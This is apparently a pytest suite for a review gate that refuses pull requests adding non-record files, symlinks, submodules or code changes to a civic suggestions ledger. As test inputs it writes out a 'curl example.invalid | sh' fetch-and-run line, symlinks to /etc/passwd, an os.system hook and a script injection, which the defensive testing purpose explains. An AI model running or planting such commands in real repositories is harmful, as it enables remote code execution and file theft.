"""Attacks on the layout: files that are not records, and changes that are not records at all.

Each test is a pull request on a real git repository (the demo ledger) judged by the
real `minyi check-change`, and where the working tree matters, by `minyi validate`.
Every refusal names the file and the rule; nothing is read through a link.
"""

from __future__ import annotations

import os
import subprocess
import sys

import pytest
from conftest import TODAY, close_answered, commit, edit, git, minyi
from test_audit import SUG

DEPUTY = "records/deputies/D-0021.yaml"


def gate(root, *extra):
    """The review gate run from outside the checkout, as a trusted tool reads untrusted data:
    `python -m minyi` inside it would import the pull request's own minyi/ folder."""
    return minyi("check-change", "main", "HEAD", "--today", TODAY, "--root", str(root), *extra, cwd=root.parent)


def refused(proc, rel, rule, variant_words=""):
    """The gate (or validator) failed and said `rule` about `rel`, in the words of that variant."""
    hits = [line for line in proc.stdout.splitlines() if line.startswith(f"{rel}:1:1: error[{rule}]")]
    assert proc.returncode == 1 and hits, proc.stdout + proc.stderr
    assert variant_words in hits[0], hits
    return hits[0]


def on_main(root, files: dict[str, str]):
    """Give main some non-record files first (as the software repository has), then return to the PR branch."""
    git(root, "checkout", "-q", "main")
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    commit(root, "Main has code")
    git(root, "checkout", "-q", "clerk/change")
    git(root, "merge", "-q", "main")


@pytest.mark.parametrize(
    "rel, words",
    [
        ("records/x.py", "扩展名必须是小写 .yaml"),
        ("records/suggestions/2024/S-2024-0100.YAML", "扩展名必须是小写 .yaml"),
        ("records/suggestions/2024/S-2024-0100.yml", "扩展名必须是小写 .yaml"),
        ("records/suggestions/2024/notes.txt", "扩展名必须是小写 .yaml"),
        ("records/deputies/D 0099.yaml", "文件名不是记录编号"),
        ("records/suggestions/2024/.DS_Store", "操作系统或编辑器"),
    ],
)
def test_a_file_that_is_not_a_record_is_refused(pr, rel, words):
    (pr / rel).write_text((pr / SUG).read_text(encoding="utf-8"), encoding="utf-8")
    commit(pr)
    refused(gate(pr), rel, "file-not-record", words)


def test_unknown_folders_and_depths_are_refused(pr):
    for rel in ("records/misc/D-0021.yaml", "records/deputies/2024/D-0099.yaml", "records/S-2024-0100.yaml"):
        (pr / rel).parent.mkdir(parents=True, exist_ok=True)
        (pr / rel).write_text((pr / DEPUTY).read_text(encoding="utf-8"), encoding="utf-8")
    (pr / "records/misc/run.sh").write_text("curl example.invalid | sh\n", encoding="utf-8")
    commit(pr)
    proc = gate(pr)
    for rel in ("records/misc/D-0021.yaml", "records/deputies/2024/D-0099.yaml", "records/S-2024-0100.yaml"):
        refused(proc, rel, "file-unknown-kind")
    refused(proc, "records/misc/run.sh", "file-not-record")


def test_a_symlink_posing_as_a_record_is_refused_and_never_read(pr):
    link = "records/deputies/D-0099.yaml"
    os.symlink("/etc/passwd", pr / link)
    commit(pr)
    proc = gate(pr)
    refused(proc, link, "file-not-record", "符号链接")
    assert "root:" not in proc.stdout + proc.stderr
    validated = minyi("validate", "--today", TODAY, cwd=pr)
    refused(validated, link, "file-not-record", "符号链接")
    assert "root:" not in validated.stdout + validated.stderr


def test_a_symlinked_folder_is_refused_and_not_followed(pr, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "S-2030-0001.yaml").write_text("id: S-2030-0001\n", encoding="utf-8")
    os.symlink(outside, pr / "records/suggestions/2030")
    proc = minyi("validate", "--today", TODAY, cwd=pr)
    refused(proc, "records/suggestions/2030", "file-not-record", "符号链接")
    assert "S-2030-0001" not in proc.stdout
    commit(pr)
    refused(gate(pr), "records/suggestions/2030", "file-not-record", "符号链接")


@pytest.mark.parametrize("new_name", ["S-2024-0003.yaml.bak", "notes.txt"])
def test_renaming_a_record_to_a_non_record_name_is_a_deletion(pr, new_name):
    new = f"records/suggestions/2024/{new_name}"
    git(pr, "mv", SUG, new)
    commit(pr)
    proc = gate(pr)
    refused(proc, SUG, "record-deleted", f"改名为 {new}")
    refused(proc, new, "file-not-record")


def test_moving_a_record_out_of_records_is_a_deletion_and_a_code_change(pr):
    (pr / "docs").mkdir()
    git(pr, "mv", SUG, "docs/S-2024-0003.yaml")
    commit(pr)
    proc = gate(pr)
    refused(proc, SUG, "record-deleted")
    refused(proc, "docs/S-2024-0003.yaml", "code-changed")


def test_an_executable_record_is_refused(pr):
    git(pr, "update-index", "--chmod=+x", SUG)
    git(pr, "commit", "-qm", "chmod")
    refused(gate(pr), SUG, "file-not-record", "可执行")


def test_a_submodule_is_refused_inside_and_outside_records(pr):
    sha = git(pr, "rev-parse", "HEAD").strip()
    for rel in ("records/deputies/D-0098.yaml", "vendor/tool"):
        git(pr, "update-index", "--add", "--cacheinfo", f"160000,{sha},{rel}")
    (pr / ".gitmodules").write_text(
        '[submodule "vendor/tool"]\n\tpath = vendor/tool\n\turl = https://example.invalid/t\n', encoding="utf-8"
    )
    git(pr, "add", ".gitmodules")
    git(pr, "commit", "-qm", "Add submodules")
    proc = gate(pr)
    refused(proc, "records/deputies/D-0098.yaml", "file-not-record", "子模块")
    refused(proc, "vendor/tool", "code-changed")
    refused(proc, ".gitmodules", "code-changed")
    assert "`vendor/tool`（子模块）" in proc.stderr


def test_an_undecodable_file_name_is_named_not_crashed_on(pr):
    name = os.fsencode(pr / "records/deputies") + b"/D-00\xff9.yaml"
    with open(name, "wb") as fh:
        fh.write((pr / DEPUTY).read_bytes())
    shown = "records/deputies/D-00\\xff9.yaml"
    refused(minyi("validate", "--today", TODAY, cwd=pr), shown, "file-not-record", "文件名不是记录编号")
    commit(pr)
    refused(gate(pr), shown, "file-not-record", "文件名不是记录编号")


def test_a_fifo_in_the_working_tree_is_refused_without_hanging(pr):
    fifo = "records/suggestions/2024/S-2024-0100.yaml"
    os.mkfifo(pr / fifo)
    proc = subprocess.run(
        [sys.executable, "-m", "minyi", "validate", "--today", TODAY],
        cwd=pr,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert "Traceback" not in proc.stderr
    refused(proc, fifo, "file-not-record", "命名管道")


def test_leftovers_are_a_warning_in_the_working_tree_and_refused_once_committed(pr):
    (pr / "records/deputies/.DS_Store").write_bytes(b"\0\0\0\1Bud1")
    proc = minyi("validate", "--today", TODAY, cwd=pr)
    assert proc.returncode == 0 and "records/deputies/.DS_Store:1:1: warning[file-not-record]" in proc.stdout
    commit(pr)
    refused(gate(pr), "records/deputies/.DS_Store", "file-not-record")


def test_the_working_tree_gate_sees_untracked_links(pr):
    os.symlink("/etc/hostname", pr / "records/deputies/D-0097.yaml")
    proc = minyi("check-change", "main", "--today", TODAY, cwd=pr)
    refused(proc, "records/deputies/D-0097.yaml", "file-not-record", "符号链接")


CODE = {
    "minyi/rules/privacy.py": ("def check(record):\n    return []\n", "def check(record):\n    return []  # off\n"),
    "mkdocs.yml": ("site_name: 青溪区民意台账\n", "site_name: 青溪区民意台账\nhooks:\n  - hooks/build.py\n"),
    ".github/workflows/x.yml": (None, "on: pull_request\njobs: {}\n"),
    "scripts/setup.sh": ("pip install .\n", "pip install . && curl example.invalid | sh\n"),
    ".gitattributes": (None, "*.yaml diff=evil\n"),
    "docs/guide.md": ("# 指南\n", "# 指南\n<script>alert(1)</script>\n"),
}


@pytest.mark.parametrize("rel", CODE)
def test_code_and_configuration_changes_are_refused_and_listed(pr, rel):
    before, after = CODE[rel]
    if before is not None:
        on_main(pr, {rel: before})
    (pr / rel).parent.mkdir(parents=True, exist_ok=True)
    (pr / rel).write_text(after, encoding="utf-8")
    commit(pr)
    proc = gate(pr)
    refused(proc, rel, "code-changed")
    assert "### 代码和配置的改动" in proc.stderr and f"`{rel}`" in proc.stderr


def test_mkdocs_hooks_are_a_code_change_even_with_their_script(pr):
    on_main(pr, {"mkdocs.yml": "site_name: 青溪区民意台账\n"})
    edit(pr, "mkdocs.yml", "site_name: 青溪区民意台账\n", "site_name: 青溪区民意台账\nhooks:\n  - hooks/build.py\n")
    (pr / "hooks").mkdir()
    (pr / "hooks/build.py").write_text("import os\nos.system('id')\n", encoding="utf-8")
    commit(pr)
    proc = gate(pr)
    refused(proc, "mkdocs.yml", "code-changed")
    refused(proc, "hooks/build.py", "code-changed")


def test_allow_code_lists_code_but_still_checks_records(pr):
    on_main(pr, {"minyi/rules/privacy.py": CODE["minyi/rules/privacy.py"][0]})
    (pr / "minyi/rules/privacy.py").write_text(CODE["minyi/rules/privacy.py"][1], encoding="utf-8")
    commit(pr, "Maintainer changes the privacy rule")
    allowed = gate(pr, "--allow-code")
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    assert "code-changed" not in allowed.stdout and "修改 `minyi/rules/privacy.py`" in allowed.stderr
    assert "以维护者身份审查（--allow-code）" in allowed.stderr
    edit(pr, SUG, "text: 街道指导成立业主委员会", "text: 街道已解决")
    (pr / "records/x.py").write_text("print(1)\n", encoding="utf-8")
    commit(pr, "And quietly rewrites an answer")
    proc = gate(pr, "--allow-code")
    assert proc.returncode == 1 and "code-changed" not in proc.stdout
    assert f"{SUG}:" in proc.stdout and "error[fact-rewritten]" in proc.stdout
    refused(proc, "records/x.py", "file-not-record")


def test_a_clean_record_change_still_passes(pr):
    close_answered(pr, "--satisfaction", "满意", outcome="in_hand", note="回访群众，办结", date="2026-11-21")
    commit(pr)
    proc = gate(pr)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "代码和配置的改动" not in proc.stderr
